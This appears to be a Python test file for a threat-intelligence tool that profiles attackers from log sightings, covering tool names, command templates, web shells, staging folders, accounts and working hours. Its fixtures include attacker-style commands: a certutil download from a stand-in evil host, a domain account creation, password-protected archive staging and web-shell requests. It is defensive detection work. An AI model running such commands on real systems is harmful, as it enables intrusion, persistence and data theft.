"""Each kind of trait on events made for it, and what all kinds promise."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from made import config, sighting
from strategies import TEXTS

from ringleader.profile import facts, names
from ringleader.profile.gather import Gathered
from ringleader.profile.kinds import KINDS, Kind
from ringleader.profile.kinds.address import parse
from ringleader.profile.sighting import Context, Sighting
from ringleader.schema.network import is_inner

BY_NAME = {kind.name: kind for kind in KINDS}
CASE = names.context(
    config(),
    ["ex01", "bil01.corp.example"],
    [],
    names.Hostnames(["ex01.corp.example"], config().aliases()),
    key=b"k",
)


def marks(kind: str, *seen: Sighting, context: Context = CASE) -> dict[str, str]:
    """Value to basis."""
    return {mark.value: mark.basis for one in seen for mark in BY_NAME[kind].of(one, context)}


def test_technique() -> None:
    assert marks("technique", sighting(techniques=("T1190",))) == {"T1190": "tag"}


def test_software_by_tag_version_name_service_pipe_and_agent() -> None:
    assert marks("software", sighting(software=("S0020",))) == {"S0020": "tag"}
    assert marks("software", sighting(original="nbtscan.exe", program="C:\\x\\nb.exe")) == {"S0590": "version"}
    assert marks("software", sighting(program="C:\\x\\PsExec64.exe")) == {"S0029": "name"}
    assert marks("software", sighting("windows/system/7045", service="PSEXESVC")) == {"S0029": "name"}
    assert marks("software", sighting("windows/sysmon/17", pipe="\\PSEXESVC-A-1-stdin")) == {"S0029": "name"}
    assert marks("software", sighting("web/iis", user_agent="python-requests/2.25.1")) == {"python-requests": "claimed"}


def test_command_template_has_the_tools_own_name_where_it_was_renamed() -> None:
    renamed = sighting(
        original="Rar.exe", program="C:\\PerfLogs\\h.exe", command="C:\\PerfLogs\\h.exe a -hpx1 u.dat *.csv"
    )
    assert marks("command-template", renamed) == {"rar a -hp<secret> <file> <glob>": "recorded"}
    plain = sighting(
        original="nltestrk.exe", program="C:\\Windows\\System32\\nltest.exe", command="nltest /domain_trusts"
    )
    assert marks("command-template", plain) == {"nltest /domain_trusts": "recorded"}
    assert marks("command-template", sighting(command="C:\\Windows\\System32\\whoami.exe")) == {}


def test_command_template_of_a_scheduled_task() -> None:
    content = "<Exec><Command>C:\\Windows\\Temp\\x.exe</Command><Arguments>-k net1</Arguments></Exec>"
    seen = sighting("windows/security/4698", task_content=content)
    assert marks("command-template", seen) == {"<temp>\\<program> -k net1": "recorded"}


def test_archive_habit() -> None:
    seen = sighting(
        program="C:\\PerfLogs\\r.exe", command="C:\\PerfLogs\\r.exe a -r -hpx -m5 -v200m C:\\PerfLogs\\w1.dat x"
    )
    assert set(marks("archive-habit", seen)) == {
        "password option -hp", "volumes 200m", "compression -m5", "recursion -r", "ending .dat", "folder perflogs",
    }  # fmt: skip
    assert marks("archive-habit", sighting(command="notepad a -r b")) == {}


def test_staging_folder() -> None:
    assert set(marks("staging-folder", sighting("windows/sysmon/11", file="C:\\Users\\Public\\Music\\s.dat"))) == {
        "c:\\users\\public\\music"
    }
    assert marks("staging-folder", sighting("windows/sysmon/11", file="C:\\Windows\\System32\\x.dll")) == {}
    assert marks("staging-folder", sighting(command="cmd /c dir D:\\CDR")) == {}


def test_file_name_path_and_hash() -> None:
    seen = sighting(
        program="C:\\Users\\b.lee\\AppData\\X.exe", hashes=f"SHA256={'A' * 64},MD5={'0' * 32},IMPHASH={'B' * 32}"
    )
    assert marks("file-name", seen) == {"x.exe": "name"}
    assert marks("path", seen) == {"c:\\users\\*\\appdata\\x.exe": "recorded"}
    assert marks("file-hash", seen) == {f"sha256:{'a' * 64}": "hash", f"imphash:{'b' * 32}": "version"}
    assert marks("file-hash", sighting("zeek/files", hashes="c" * 40)) == {f"sha1:{'c' * 40}": "hash"}


def test_service_task_and_pipe() -> None:
    assert marks("service", sighting("windows/system/7045", service="QzUpd")) == {"qzupd": "name"}
    assert marks("scheduled-task", sighting("windows/security/4698", task="\\SysCheck")) == {"syscheck": "name"}
    assert marks("scheduled-task", sighting(command="schtasks /create /tn SysCheck /tr x")) == {"syscheck": "name"}
    assert marks("named-pipe", sighting("windows/sysmon/17", pipe="\\msse-4412-server")) == {
        "msse-<number>-server": "name"
    }


def test_accounts() -> None:
    assert marks("account", sighting(account="CORP\\D.Chan")) == {"d.chan": "recorded"}
    assert marks("account", sighting(account="NT AUTHORITY\\SYSTEM")) == {}
    assert marks("account", sighting(account="CORP\\EX01$")) == {}
    made = sighting("windows/security/4720", created_account="rt.tester")
    assert marks("created-account", made) == {"rt.tester": "name"}
    assert marks("account-pattern", made) == {"<word>.tester": "name"}
    typed = sighting(command="net user a.cheng4 Welcome1 /add /domain")
    assert marks("created-account", typed) == {"a.cheng4": "name"}
    assert marks("created-account", sighting(command="net user /domain")) == {}


def test_web_shell_is_one_page_by_request_and_by_file() -> None:
    stem = "/aspnet_client/Hlp.aspx"
    asked = sighting("web/iis", techniques=("T1505.003",), method="POST", stem=stem, query="a=1&cmd=x", status="200")
    written = sighting(
        "windows/sysmon/11", techniques=("T1505.003",), file="C:\\inetpub\\wwwroot\\aspnet_client\\hlp.aspx"
    )
    assert marks("web-shell", asked, written) == {"/aspnet_client/hlp.aspx": "recorded"}
    assert marks("web-shell-request", asked) == {"POST /aspnet_client/*.aspx ?a&cmd 200": "recorded"}
    assert marks("web-shell", sighting("web/iis", method="GET", stem="/owa/auth/logon.aspx")) == {}


def test_user_agent_domain_address_and_network() -> None:
    seen = sighting("web/iis", user_agent="Mozilla/5.0+(Windows)", address="203.0.113.77", domain="c2.example:443")
    assert marks("user-agent", seen) == {"Mozilla/5.0 (Windows)": "claimed"}
    assert marks("domain", seen) == {"c2.example": "name"}
    assert marks("address", seen) == {"203.0.113.77": "address"}
    assert marks("network", seen) == {"203.0.113.0/24": "address"}
    named = sighting(command="certutil -urlcache http://u:p@Evil.example/x 198.51.100.9")
    assert set(marks("domain", named)) == {"evil.example"}
    assert set(marks("address", named)) == {"198.51.100.9"}
    assert (
        marks("address", sighting("zeek/conn", address=("10.0.0.1", "::1", "fe80::1%eth0", "::ffff:192.168.0.1"))) == {}
    )
    assert marks("domain", sighting("zeek/dns", domain="files.corp.example")) == {}
    assert set(marks("network", sighting("zeek/conn", address="2001:db8:1:2::5", asn="as64500"))) == {
        "2001:db8:1::/48", "AS64500",
    }  # fmt: skip


def test_working_hours_are_of_people() -> None:
    assert len(marks("working-hour", sighting(parent="C:\\Windows\\System32\\cmd.exe"))) == 1
    assert marks("working-hour", sighting(parent="C:\\Windows\\System32\\services.exe")) == {}
    assert marks("working-hour", sighting("web/iis", method="GET")) == {}
    assert marks("working-hour", sighting("zeek/conn")) == {}


def test_working_hours_count_days_and_a_zone_says_how_sure_it_is() -> None:
    found: dict[str, Gathered] = {}
    for day in range(20):
        for hour in (1, 2, 9):
            one = sighting(minute=60 * (24 * day + hour))
            for mark in BY_NAME["working-hour"].of(one, CASE):
                found.setdefault(mark.value, Gathered()).add(one, mark.basis)
    whole = BY_NAME["working-hour"].whole(found)
    assert {value: one.count for value, one in whole.items()} == {"02": 20, "03": 20, "10": 20}
    zones = BY_NAME["time-zone"].whole(found)
    assert list(zones) == ["UTC+07:00"] or list(zones) == ["UTC+08:00"]
    (estimate,) = zones.values()
    assert '"uncertainty_hours_95"' in (estimate.detail or "") and '"method"' in (estimate.detail or "")


def test_order_of_tactics() -> None:
    found: dict[str, Gathered] = {}
    for minute, tactic in [(5, "discovery"), (0, "persistence"), (9, "persistence"), (5, "execution")]:
        one = sighting(minute=minute, tactics=(tactic,))
        for mark in BY_NAME["tactics-order"].of(one, CASE):
            found.setdefault(mark.value, Gathered()).add(one, mark.basis)
    assert list(BY_NAME["tactics-order"].whole(found)) == ["persistence > execution > discovery"]


def test_role_supplier_and_host_hour() -> None:
    assert marks("victim-role", sighting(host="bil01.corp.example")) == {"billing": "recorded"}
    assert marks("supplier", sighting(account="CORP\\svc-acme")) == {"Acme Billing": "recorded"}
    assert marks("supplier", sighting("vpn/openvpn", address="198.51.100.3")) == {"Acme Billing": "address"}
    assert marks("supplier", sighting("vpn/openvpn", address="198.51.100.30")) == {}
    assert set(marks("host-hour", sighting(minute=61))) == {"ex01.corp.example 2026-03-02T02"}


def test_statements_and_subscribers() -> None:
    single = sighting("db/oracle", sql="SELECT * FROM CDR.CALL_RECORDS WHERE MSISDN = '601281234567'")
    several = sighting(
        "db/oracle", sql="select x from cdr.call_records where msisdn in ('601281234567', '601281234568')"
    )
    bulk = sighting(
        "db/oracle", sql="SELECT * FROM CDR.CALL_RECORDS WHERE CALL_DATE = TO_DATE('2026-01-02', 'YYYY-MM-DD')"
    )
    other = sighting("db/oracle", sql="SELECT * FROM STOCK.ITEMS")
    assert [set(marks("subscriber-access", one)) for one in (single, several, bulk, other)] == [
        {"single"}, {"list"}, {"bulk"}, set(),
    ]  # fmt: skip
    assert set(marks("database-statement", several)) == {"select x from cdr.call_records where msisdn in (<list>)"}
    hidden = marks("subscriber", several)
    assert len(hidden) == 2 and all(re.fullmatch("hmac:[0-9a-f]{32}", value) for value in hidden)
    assert set(hidden) >= set(marks("subscriber", single)), "the same number, the same hash"
    assert marks("subscriber", single, context=Context()) == {}
    assert set(marks("subscriber", single, context=Context(clear=True))) == {"601281234567"}
    assert set(marks("subscriber", single, context=Context(key=b"other"))).isdisjoint(hidden)


SLOTS = sorted({slot for entry in facts.fields().slots.values() for slot in entry} | {"asn"})
ODD = st.one_of(
    TEXTS,
    st.sampled_from(
        ["\x1b[31m", "\u202e", "C:\\" + "a\\" * 400, "%" * 500, "(" * 300, "'" * 301, "1" * 400, "net user x y /add",
         "::", "1.2.3.4:99999", "http://" + "a." * 200, "SHA256=" + "A" * 63, "select * from " + "x" * 300,
         "AS" + "9" * 50]
    ),
)  # fmt: skip


@pytest.mark.parametrize("kind", KINDS, ids=lambda kind: kind.name)
@given(
    slots=st.dictionaries(st.sampled_from(SLOTS), st.tuples(ODD), max_size=6),
    event=st.sampled_from(["db/oracle", "", "x"]),
)
def test_no_value_is_too_much_for_any_kind(kind: Kind, slots: dict[str, tuple[str, ...]], event: str) -> None:
    one = sighting(event, techniques=("T1505.003",), **slots)
    for mark in kind.of(one, CASE):
        assert len(mark.value) <= 5000
        facts.grade("x", mark.basis)


def test_kinds_are_told_apart_and_explained() -> None:
    assert len(BY_NAME) == len(KINDS)
    for kind in KINDS:
        assert re.fullmatch("[a-z]+(-[a-z]+)*", kind.name) and len(kind.what) > 10 and kind.most > 0


@given(slots=st.dictionaries(st.sampled_from(SLOTS), st.tuples(ODD), max_size=6))
def test_what_is_said_to_be_timeless_is(slots: dict[str, tuple[str, ...]]) -> None:
    here = sighting("x", **slots)
    there = sighting(
        "alert/y", minute=999, host="other", account="someone", techniques=("T1",), software=("S1",), **slots
    )
    for kind in KINDS:
        if kind.timeless:
            assert list(kind.of(here, CASE)) == list(kind.of(there, CASE)), kind.name


@pytest.mark.parametrize(
    ("text", "outside"),
    [("8.8.8.8", True), ("100.64.0.1", False), ("172.31.255.255", False), ("172.32.0.1", True), ("2001:db8::1", True)],
)
def test_inner_networks(text: str, outside: bool) -> None:
    address = parse(text)
    assert address is not None and is_inner(address) is not outside


def test_grades_are_in_the_order_that_they_claim() -> None:
    worth = list(facts.grades().content.values())
    assert worth == sorted(worth) and facts.grade("x", "hash") < facts.grade("x", "tag") < facts.grade("x", "address")
